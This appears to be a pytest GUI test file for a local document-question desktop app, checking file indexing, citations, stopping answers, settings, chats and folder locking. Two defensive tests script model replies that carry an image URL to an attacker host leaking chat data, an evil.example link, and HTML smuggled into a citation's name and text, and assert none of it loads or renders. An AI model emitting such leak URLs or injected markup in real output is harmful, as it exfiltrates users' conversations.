"""The main window on fakes (hashing embedder, scripted LLM): fast checks of what a user
does - drop files, ask, stop, open a source, change settings, restart - with the real
manifest, vector store, chat history and parser processes underneath."""

from __future__ import annotations

import json
import logging
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from PySide6.QtCore import Qt, QTimer, QUrl
from PySide6.QtGui import QTextDocument
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QDialog
from pytestqt.qtbot import QtBot
from test_e2e import make_documents
from ui_helpers import (
    EngineCalls,
    ask,
    click_link,
    drop_files,
    name_collection,
    open_window,
    respond_to_dialog,
    wait_answer,
    wait_indexed,
)

from desk_assistant.backends.embeddings import HashingEmbedder
from desk_assistant.backends.llm.fake import FakeRuntime
from ui.main_window import MainWindow
from ui.settings_dialog import SettingsDialog
from ui.settings_text import WORDING

pytestmark = [
    pytest.mark.gui,
    pytest.mark.qt_log_level_fail("WARNING"),
    pytest.mark.qt_log_ignore("This plugin does not support propagateSizeHints"),
]

FAKE_SETTINGS = {"min_relevance": 0.1}


class SlowRuntime(FakeRuntime):
    """A scripted model that takes its time per word, like a real one."""

    def _generate(self, pieces: list[str]) -> Iterator[str]:
        for piece in pieces:
            time.sleep(0.02)
            self.pieces_generated += 1
            yield piece


def fake_window(
    qtbot: QtBot, home: Path, replies: list[str] | None = None, runtime: FakeRuntime | None = None
) -> MainWindow:
    return open_window(
        qtbot,
        home,
        settings=FAKE_SETTINGS,
        embedder=HashingEmbedder(),
        runtime=runtime or FakeRuntime(replies or ["An answer [1]."]),
    )


def indexed_window(
    qtbot: QtBot, home: Path, docs: Path, replies: list[str] | None = None
) -> MainWindow:
    """The fake-model window with the three test documents dropped on it and indexed."""
    window = fake_window(qtbot, home, replies)
    drop_files(window, [docs])
    wait_indexed(qtbot, window, 3)
    return window


BRIDGE_QUESTION = "When will the Harbor Bridge renovation be finished?"


def report_window(qtbot: QtBot, home: Path, docs: Path) -> MainWindow:
    """The fake-model window with only the council report indexed; its model answers the
    bridge question citing passage 1."""
    window = fake_window(qtbot, home, ["It will be finished in October 2027 [1]."])
    drop_files(window, [docs / "council-report.pdf"])
    wait_indexed(qtbot, window, 1)
    return window


def ask_bridge(qtbot: QtBot, window: MainWindow) -> None:
    ask(qtbot, window, BRIDGE_QUESTION)
    wait_answer(qtbot, window)


@pytest.fixture
def docs(tmp_path: Path) -> Path:
    return make_documents(tmp_path / "docs")


def test_dropped_files_are_listed_with_status_and_reasons(
    qtbot: QtBot, app_home: Path, docs: Path, tmp_path: Path
) -> None:
    (docs / "broken.pdf").write_bytes(b"%PDF-1.4\nthis is not really a PDF")
    odd = tmp_path / "notes.xyz"
    odd.write_text("not a format we read")
    window = fake_window(qtbot, app_home)
    assert window.library.stack.currentWidget() is window.library.empty
    drop_files(window, [docs, odd])
    qtbot.waitUntil(window.library.progress.isVisible)
    wait_indexed(qtbot, window, 3)
    rows = {Path(r.path).name: r for r in window.library.model.rows()}
    assert rows["council-report.pdf"].pages == 3 and rows["council-report.pdf"].chunks > 0
    assert rows["broken.pdf"].status == "failed" and rows["broken.pdf"].reason
    assert rows["notes.xyz"].status_text == "not indexed: unsupported file type (.xyz)"
    assert not window.library.progress.isVisible()
    banner = window.banners.banner("ingest-failures")
    assert banner is not None and "broken.pdf" in banner.label.text()
    qtbot.waitUntil(
        lambda: window.library.summary.text() == "3 indexed · 1 failed · 1 not supported · 6 chunks"
    )


def test_a_cited_text_passage_opens_highlighted_in_the_viewer(
    qtbot: QtBot, app_home: Path, docs: Path
) -> None:
    window = fake_window(qtbot, app_home, ["Mix the flour, eggs and milk [1]."])
    drop_files(window, [docs / "recipes.md"])
    wait_indexed(qtbot, window, 1)
    ask(qtbot, window, "How do I make pancakes batter?")
    wait_answer(qtbot, window)
    reply = window.chat.view.replies[-1]
    assert reply.citations and reply.citations[0].path.endswith("recipes.md")
    click_link(window.chat.view, "cite:")
    viewer = window.viewer
    qtbot.waitUntil(lambda: viewer.stack.currentWidget() is viewer.text)
    assert viewer.isVisible() and viewer.title.text() == "recipes.md"
    selections = viewer.text.extraSelections()
    assert len(selections) == 1
    assert "200 g flour" in selections[0].cursor.selectedText()


def test_escape_stops_the_answer_at_once_and_keeps_it(
    qtbot: QtBot, app_home: Path, docs: Path
) -> None:
    runtime = SlowRuntime([" ".join(["word"] * 300)], context_length=4096)
    window = fake_window(qtbot, app_home, runtime=runtime)
    drop_files(window, [docs / "council-report.pdf"])
    wait_indexed(qtbot, window, 1)
    ask(qtbot, window, "When will the Harbor Bridge renovation be finished?")
    qtbot.waitUntil(lambda: window.chat.tokens_received >= 3, timeout=30_000)
    assert window.stop_action.isEnabled()
    QTest.keyClick(window.chat.input, Qt.Key.Key_Escape)
    assert not window.chat.generating
    assert window.chat.view.replies[-1].stopped
    qtbot.waitUntil(lambda: not window.lanes.asking._jobs, timeout=5000)
    assert runtime.pieces_generated < 60  # of 300: generation stopped, not finished unseen
    window.close()
    again = fake_window(qtbot, app_home)
    qtbot.waitUntil(lambda: bool(again.chat.view.replies))
    assert again.chat.view.replies[-1].stopped


def test_chats_are_kept_across_a_restart(qtbot: QtBot, app_home: Path, docs: Path) -> None:
    window = indexed_window(qtbot, app_home, docs, ["Harbor answer [1].", "Holiday answer [1]."])
    ask(qtbot, window, "When will the Harbor Bridge renovation be finished?")
    wait_answer(qtbot, window)
    QTest.keyClick(window.chat.input, Qt.Key.Key_N, Qt.KeyboardModifier.ControlModifier)
    qtbot.waitUntil(lambda: window.chat_list.model.rowCount() == 2)
    qtbot.waitUntil(lambda: not window.chat.view.replies)
    ask(qtbot, window, "How many days of paid holiday?")
    wait_answer(qtbot, window)
    window.close()

    reopened = fake_window(qtbot, app_home)
    chats = reopened.chat_list
    qtbot.waitUntil(lambda: chats.model.rowCount() == 2)
    qtbot.waitUntil(lambda: bool(reopened.chat.view.replies))
    assert chats.current is not None and chats.current.title == "How many days of paid holiday?"
    assert reopened.chat.view.replies[-1].text == "Holiday answer [1]."
    chats.view.setCurrentIndex(chats.model.index(1))  # the older chat
    qtbot.waitUntil(lambda: "Harbor answer" in reopened.chat.view.toPlainText())


def test_remote_content_in_an_answer_is_never_loaded(
    qtbot: QtBot, app_home: Path, docs: Path, caplog: pytest.LogCaptureFixture
) -> None:
    leak = "https://attacker.example/pixel.png?chat=secret"
    reply = (
        f"The bridge opens in 2027 [1]. ![tracking pixel]({leak}) "
        f'<img src="https://attacker.example/raw.png"> [more](https://attacker.example/x)'
    )
    window = fake_window(qtbot, app_home, [reply])
    drop_files(window, [docs / "council-report.pdf"])
    wait_indexed(qtbot, window, 1)
    with caplog.at_level(logging.INFO, logger="ui.chat_view"):
        ask(qtbot, window, "When will the Harbor Bridge renovation be finished?")
        wait_answer(qtbot, window)
        view = window.chat.view
        view.grab()  # lays out and paints the answer: the image is asked for now
    document = view.document()
    assert "<img" in view.toPlainText()  # raw HTML is shown as text, never interpreted
    assert document.resource(QTextDocument.ResourceType.ImageResource, QUrl(leak)) is None
    assert f"refused to load a resource into the chat: {leak}" in caplog.text
    assert "PySide6.QtNetwork" not in sys.modules


def test_settings_round_trip_and_invalid_values_are_rejected(qtbot: QtBot, app_home: Path) -> None:
    window = fake_window(qtbot, app_home)
    dialog = SettingsDialog(window.lanes.settings, window)
    qtbot.addWidget(dialog)
    dialog.show()
    dialog.editors["temperature"].set_value(0.7)
    dialog.editors["top_k"].set_value(3)
    dialog.editors["chunk_overlap"].set_value(300)  # more than the chunk size: invalid
    dialog.save()
    assert dialog.saved is None and dialog.problem.isVisible()
    assert (
        "passage overlap (tokens) must be smaller than passage length (tokens)"
        in dialog.problem.text()
    )
    dialog.editors["chunk_overlap"].set_value(32)
    dialog.editors["model_path"].set_value(app_home / "missing.gguf")
    dialog.save()
    assert dialog.saved is None and "missing.gguf" in dialog.problem.text()
    dialog.editors["model_path"].set_value(None)
    dialog.save()
    assert dialog.result() == QDialog.DialogCode.Accepted and dialog.saved is not None
    saved = json.loads((app_home / "settings.json").read_text())
    assert saved["temperature"] == 0.7 and saved["top_k"] == 3

    def edit_in_the_real_dialog() -> None:
        opened = QApplication.activeModalWidget()
        assert isinstance(opened, SettingsDialog)
        assert opened.editors["temperature"].value() == pytest.approx(0.7)
        opened.editors["max_answer_tokens"].set_value(99)
        opened.save()

    window.apply_settings(dialog.saved)
    window.activateWindow()  # the first dialog had the focus
    qtbot.waitUntil(window.isActiveWindow)
    QTimer.singleShot(0, edit_in_the_real_dialog)
    QTest.keyClick(window.chat.input, Qt.Key.Key_Comma, Qt.KeyboardModifier.ControlModifier)
    assert window.lanes.settings.max_answer_tokens == 99
    assert window.lanes.settings.temperature == pytest.approx(0.7)
    job = window.lanes.asking.call("read settings", lambda a: a.settings.max_answer_tokens)
    with qtbot.waitSignal(job.signals.finished) as blocker:
        pass
    assert blocker.args == [99]  # the lanes answer with the new settings


def test_a_model_that_does_not_load_is_reported_with_a_way_out(
    qtbot: QtBot, app_home: Path, tmp_path: Path
) -> None:
    bogus = tmp_path / "not-a-model.gguf"
    bogus.write_bytes(b"this is no GGUF file" * 100)
    window = open_window(
        qtbot, app_home, settings={"model_path": str(bogus)}, embedder=HashingEmbedder()
    )
    qtbot.waitUntil(lambda: window.banners.banner("model") is not None, timeout=60_000)
    banner = window.banners.banner("model")
    assert banner is not None and "Settings…" in banner.buttons
    assert window.status.text() == "The model did not load"
    assert window.banners.banner("builtin-model") is None  # a model file was chosen


def test_first_run_offers_a_better_model_once(qtbot: QtBot, app_home: Path) -> None:
    window = fake_window(qtbot, app_home)
    banner = window.banners.banner("builtin-model")
    assert banner is not None and "Add a model file…" in banner.buttons
    banner.buttons["Dismiss"].click()
    window.close()
    again = fake_window(qtbot, app_home)
    assert again.banners.banner("builtin-model") is None


def test_removing_a_document_can_be_undone(qtbot: QtBot, app_home: Path, docs: Path) -> None:
    window = indexed_window(qtbot, app_home, docs)
    library = window.library
    row = next(n for n, r in enumerate(library.model.rows()) if r.path.endswith("recipes.md"))
    library.table.selectRow(row)
    library.remove_action.trigger()
    qtbot.waitUntil(lambda: window.banners.banner(f"removed:{docs / 'recipes.md'}") is not None)
    qtbot.waitUntil(lambda: len(library.model.rows()) == 2)
    banner = window.banners.banner(f"removed:{docs / 'recipes.md'}")
    assert banner is not None
    banner.buttons["Undo"].click()
    wait_indexed(qtbot, window, 3)


def test_the_window_opens_without_loading_models(app_home: Path) -> None:
    """What makes the window quick to show is structural: no model library is imported
    before it is on screen (the time itself is measured by packaging/test-linux.sh)."""
    script = (
        "import sys\n"
        "from PySide6.QtWidgets import QApplication\nfrom ui.app import MainWindow, apply_theme\n"
        "from desk_assistant.settings import load_settings\n"
        "app = QApplication([])\napply_theme(app)\n"
        "window = MainWindow(load_settings())\nwindow.show()\napp.processEvents()\n"
        "heavy = [m for m in ('torch', 'chromadb', 'llama_cpp', 'sentence_transformers',"
        " 'llama_index', 'onnxruntime', 'ctransformers') if m in sys.modules]\n"
        "print(window.isVisible(), heavy)\nwindow.close()\n"
    )
    env = {**os.environ, "QT_QPA_PLATFORM": "offscreen", "DESK_ASSISTANT_HOME": str(app_home)}
    done = subprocess.run(
        [sys.executable, "-c", script],
        capture_output=True,
        text=True,
        timeout=60,
        env=env,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-800:]
    assert done.stdout.strip() == "True []"


def test_without_preloading_the_models_load_with_the_first_question(
    qtbot: QtBot, app_home: Path, docs: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    engine = EngineCalls()
    engine.install(monkeypatch)
    window = open_window(
        qtbot,
        app_home,
        settings={**FAKE_SETTINGS, "preload_models": False},
        embedder=HashingEmbedder(),
        runtime=FakeRuntime(["An answer [1]."]),
    )
    drop_files(window, [docs])
    wait_indexed(qtbot, window, 3)
    assert "warm_up" not in engine.calls
    assert window.status.text() == "Ready; the model loads with your first question"
    ask(qtbot, window, "When will the Harbor Bridge renovation be finished?")
    wait_answer(qtbot, window)
    # The load was queued before the question on the same lane, so it ran first.
    assert engine.calls.index("warm_up") < engine.calls.index("ask")
    assert window.model_label.text().startswith("Model: ")
    assert window.status.text() == "Ready"
    assert window.chat.view.toPlainText().count("An answer") == 1


def test_cancel_stops_indexing_and_says_so(qtbot: QtBot, app_home: Path, docs: Path) -> None:
    window = fake_window(qtbot, app_home)
    drop_files(window, [docs])
    window.library.progress.cancel.click()  # before the run gets to its first file
    qtbot.waitUntil(lambda: not window.library.indexing)
    assert window.banners.banner("ingest-cancelled") is not None
    assert not window.library.progress.isVisible()


def test_an_unanswerable_question_is_answered_plainly_and_can_be_copied_or_retried(
    qtbot: QtBot, app_home: Path, docs: Path
) -> None:
    window = fake_window(qtbot, app_home, ["Made up [1]."])
    drop_files(window, [docs / "recipes.md"])
    wait_indexed(qtbot, window, 1)
    ask(qtbot, window, "Who won the 2010 football World Cup in South Africa?")
    wait_answer(qtbot, window)
    reply = window.chat.view.replies[-1]
    assert not reply.grounded and not reply.citations
    assert "do not contain" in window.chat.view.toPlainText()
    assert "Sources" not in window.chat.view.toPlainText()
    click_link(window.chat.view, "copy:")
    assert QApplication.clipboard().text() == reply.text
    click_link(window.chat.view, "regen:")
    wait_answer(qtbot, window)
    assert [r.question for r in window.chat.view.replies] == [reply.question] * 2


def test_collections_are_created_switched_renamed_and_deleted(
    qtbot: QtBot, app_home: Path, docs: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from PySide6.QtWidgets import QMessageBox

    window = fake_window(qtbot, app_home)
    drop_files(window, [docs / "recipes.md"])
    wait_indexed(qtbot, window, 1)
    library = window.library
    respond_to_dialog(library.new_collection, lambda d: name_collection(d, "Work papers"))
    qtbot.waitUntil(lambda: library.collection == "Work papers")
    assert window.windowTitle() == "Desk Assistant — Work papers"
    qtbot.waitUntil(lambda: library.collections.count() == 2)
    assert library.model.rowCount() == 0 and library.stack.currentWidget() is library.empty
    respond_to_dialog(library.rename_collection, lambda d: name_collection(d, "Archive"))
    qtbot.waitUntil(lambda: library.collection == "Archive")
    monkeypatch.setattr(QMessageBox, "question", lambda *a, **k: QMessageBox.StandardButton.Yes)
    library.delete_collection()
    qtbot.waitUntil(lambda: library.collection == "default")
    qtbot.waitUntil(lambda: library.model.rowCount() == 1)
    assert [library.collections.itemText(i) for i in range(library.collections.count())] == [
        "default"
    ]


def test_the_settings_dialog_describes_the_model(qtbot: QtBot, app_home: Path) -> None:
    window = fake_window(qtbot, app_home)
    dialog = SettingsDialog(window.lanes.settings, window)
    qtbot.addWidget(dialog)
    qtbot.waitUntil(lambda: dialog.model_check is not None, timeout=30_000)
    text = dialog.model_info.text()
    assert text.startswith("Built-in: ") and "Q4_1" in text and "context 8192 tokens" in text
    assert "Loads with llama_cpp" in text
    assert [dialog.tabs.tabText(i) for i in range(dialog.tabs.count())] == ["Basic", "Advanced"]
    gpu_help = dialog.help["gpu_layers"].text()
    assert gpu_help.startswith(WORDING["gpu_layers"].help)
    # These machines build llama.cpp without GPU support: the dialog says so.
    assert gpu_help.endswith(
        "The installed llama_cpp runs on the processor only, so this setting has no "
        "effect until a GPU build is installed."
    )


def test_dark_scheme_and_missing_icons_leave_the_window_usable(
    qtbot: QtBot, app_home: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    import ui.icons
    from ui.theme import apply_theme, colors, is_dark

    app = QApplication.instance()
    assert isinstance(app, QApplication)
    try:
        apply_theme(app, Qt.ColorScheme.Dark)  # as when the system switches to dark
        assert is_dark() and colors()["error"] == "#ff7b72"
        assert "#ff7b72" in app.styleSheet()
        monkeypatch.setattr(ui.icons, "ICON_DIR", tmp_path / "no-icons")
        window = fake_window(qtbot, app_home)
        assert window.add_files_action.icon().isNull() and window.add_files_action.text()
        window.icons.refresh()
    finally:
        apply_theme(app, Qt.ColorScheme.Light)
    assert not is_dark()


def test_a_second_window_on_the_same_data_folder_is_refused(app_home: Path) -> None:
    from ui.app import _lock

    first = _lock(app_home)
    assert first is not None
    try:
        assert _lock(app_home) is None
    finally:
        first.unlock()
    again = _lock(app_home)
    assert again is not None
    again.unlock()


def test_chats_can_be_renamed_deleted_and_restored(
    qtbot: QtBot, app_home: Path, docs: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from PySide6.QtWidgets import QInputDialog

    window = fake_window(qtbot, app_home)
    drop_files(window, [docs / "recipes.md"])
    wait_indexed(qtbot, window, 1)
    ask(qtbot, window, "How do I make pancakes?")
    wait_answer(qtbot, window)
    chats = window.chat_list
    qtbot.waitUntil(lambda: chats.current is not None)
    chat = chats.current
    assert chat is not None
    monkeypatch.setattr(QInputDialog, "getText", lambda *a, **k: ("Pancakes", True))
    chats.rename(chat)
    qtbot.waitUntil(lambda: chats.model.data(chats.model.index(0)) == "Pancakes")
    chats.delete(chat)
    qtbot.waitUntil(lambda: chats.model.rowCount() == 0)
    assert not window.chat.view.replies  # the conversation went with it
    banner = window.banners.banner(f"chat-deleted:{chat.id}")
    assert banner is not None
    banner.buttons["Undo"].click()
    qtbot.waitUntil(lambda: chats.model.rowCount() == 1)
    qtbot.waitUntil(lambda: bool(window.chat.view.replies))


def test_without_qtpdf_a_pdf_passage_is_shown_as_text(
    qtbot: QtBot, app_home: Path, docs: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import ui.source_viewer

    monkeypatch.setattr(ui.source_viewer, "HAS_QTPDF", False)
    window = report_window(qtbot, app_home, docs)
    assert window.viewer.pdf is None
    ask_bridge(qtbot, window)
    click_link(window.chat.view, "cite:")
    viewer = window.viewer
    qtbot.waitUntil(lambda: viewer.stack.currentWidget() is viewer.text, timeout=30_000)
    (selection,) = viewer.text.extraSelections()
    assert "finished in October 2027" in selection.cursor.selectedText()


def test_files_added_to_a_followed_folder_appear_by_themselves(
    qtbot: QtBot, app_home: Path, docs: Path
) -> None:
    window = indexed_window(qtbot, app_home, docs)
    (docs / "later.md").write_text("# Later\n\nA note written while the app runs.", "utf-8")
    wait_indexed(qtbot, window, 4)  # picked up by the watcher, no click needed
    (docs / "later.md").unlink()
    wait_indexed(qtbot, window, 3)


def test_changes_made_while_closed_are_picked_up_on_start(
    qtbot: QtBot, app_home: Path, docs: Path
) -> None:
    window = indexed_window(qtbot, app_home, docs)
    window.close()
    (docs / "meanwhile.txt").write_text("Written while the app was closed.", "utf-8")
    reopened = fake_window(qtbot, app_home)
    wait_indexed(qtbot, reopened, 4)


def test_every_icon_the_window_shows_ships_in_the_package(qtbot: QtBot, app_home: Path) -> None:
    from ui.icons import ICON_DIR

    window = fake_window(qtbot, app_home)
    shown = {name for _widget, name in window.icons._targets}  # what attach() was given
    assert len(shown) >= 10
    assert sorted(n for n in shown if not (ICON_DIR / f"{n}.svg").is_file()) == []
    assert not window.add_files_action.icon().isNull()


def test_another_data_folder_can_be_chosen_for_the_next_start(
    qtbot: QtBot, app_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from PySide6.QtWidgets import QFileDialog

    from desk_assistant.paths import default_home

    window = fake_window(qtbot, app_home)
    dialog = SettingsDialog(window.lanes.settings, window)
    qtbot.addWidget(dialog)
    assert "DESK_ASSISTANT_HOME is set" in dialog.data_folder_note.text()
    monkeypatch.delenv("DESK_ASSISTANT_HOME")
    elsewhere = tmp_path / "synced" / "Desk Assistant"
    elsewhere.mkdir(parents=True)
    monkeypatch.setattr(QFileDialog, "getExistingDirectory", lambda *a, **k: str(elsewhere))
    dialog._change_data_folder()  # what the Change… button calls
    assert f"From the next start the data folder is {elsewhere}" in dialog.data_folder_note.text()
    assert default_home() == elsewhere
    assert (app_home / "manifest.sqlite3").exists()  # nothing was moved or deleted


def test_untrusted_text_is_shown_as_text_and_links_open_only_when_confirmed(
    qtbot: QtBot, app_home: Path, docs: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from PySide6.QtGui import QDesktopServices
    from PySide6.QtWidgets import QMessageBox

    from desk_assistant.api import Citation

    reply = "The bridge opens in 2027 [1]. See [the council](https://evil.example/?x=1) [1]."
    window = fake_window(qtbot, app_home, [reply])
    drop_files(window, [docs / "council-report.pdf"])
    wait_indexed(qtbot, window, 1)
    ask(qtbot, window, "When will the Harbor Bridge renovation be finished?")
    wait_answer(qtbot, window)

    asked: list[str] = []
    opened: list[str] = []
    answers = iter([QMessageBox.StandardButton.No, QMessageBox.StandardButton.Yes])
    monkeypatch.setattr(
        QMessageBox, "question", lambda _p, _t, text, *_a: asked.append(text) or next(answers)
    )
    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: opened.append(url.toString()))
    click_link(window.chat.view, "https://evil.example")
    assert opened == [] and "https://evil.example/?x=1" in asked[0]  # the real address
    click_link(window.chat.view, "https://evil.example")
    assert opened == ["https://evil.example/?x=1"]

    # A document's text and name are shown as they are, never as markup.
    hostile = Citation(1, str(docs / "<b>bold</b>.pdf"), 1, "<img src='x.png'> <i>tag</i>", 0.9)
    window.viewer.show_citation(hostile)
    for label in (window.viewer.title, window.viewer.quote, window.viewer.message):
        assert label.textFormat() == Qt.TextFormat.PlainText
    assert "<img src='x.png'>" in window.viewer.quote.text()

    # A PDF that pdfium cannot open is refused by the check in a separate process, and
    # never reaches the window's own PDF view.
    broken = docs / "broken.pdf"
    broken.write_bytes(b"%PDF-1.7\n" + b"\x00" * 200)
    window.viewer.show_citation(Citation(1, str(broken), 1, "text", 0.9))
    qtbot.waitUntil(lambda: "not a valid PDF" in window.viewer.message.text(), timeout=30_000)
    assert window.viewer.stack.currentWidget() is window.viewer.message
    if window.viewer.pdf is not None:
        assert window.viewer.pdf.path is None


@contextmanager
def dropped_behind_another_writer(
    qtbot: QtBot, home: Path, docs: Path
) -> Iterator[tuple[MainWindow, subprocess.Popen[str]]]:
    """The fake-model window with a file dropped on it while another process holds the
    writer lock, once the window says it waits; that process is killed on leaving."""
    from test_writer_lock import hold_in_child

    window = fake_window(qtbot, home)
    child = hold_in_child(home, "desk-assistant sync")
    try:
        drop_files(window, [docs / "recipes.md"])
        qtbot.waitUntil(lambda: "Waiting for" in window.status.text(), timeout=30_000)
        yield window, child
    finally:
        child.kill()
        child.wait()


def test_the_window_waits_for_another_writer_and_says_whom(
    qtbot: QtBot, app_home: Path, docs: Path
) -> None:
    with dropped_behind_another_writer(qtbot, app_home, docs) as (window, _child):
        assert "Waiting for desk-assistant sync" in window.status.text()
        assert "Waiting for desk-assistant sync" in window.library.progress.label.text()
    wait_indexed(qtbot, window, 1)
    qtbot.waitUntil(lambda: "Waiting" not in window.status.text(), timeout=10_000)


def test_quitting_while_a_change_waits_for_another_writer_does_not_wait(
    qtbot: QtBot, app_home: Path, docs: Path
) -> None:
    from desk_assistant.writer_lock import WriterLock

    with dropped_behind_another_writer(qtbot, app_home, docs) as (window, child):
        window.library.remove(str(docs / "recipes.md"))  # queued behind the waiting ingest
        window.close()
        # close() came back while the other process still writes: the waits were called
        # off, not sat out (sitting them out would hang here until the test's timeout).
        assert child.poll() is None
        holder = WriterLock(app_home).holder()
        assert holder is not None and holder.pid == child.pid
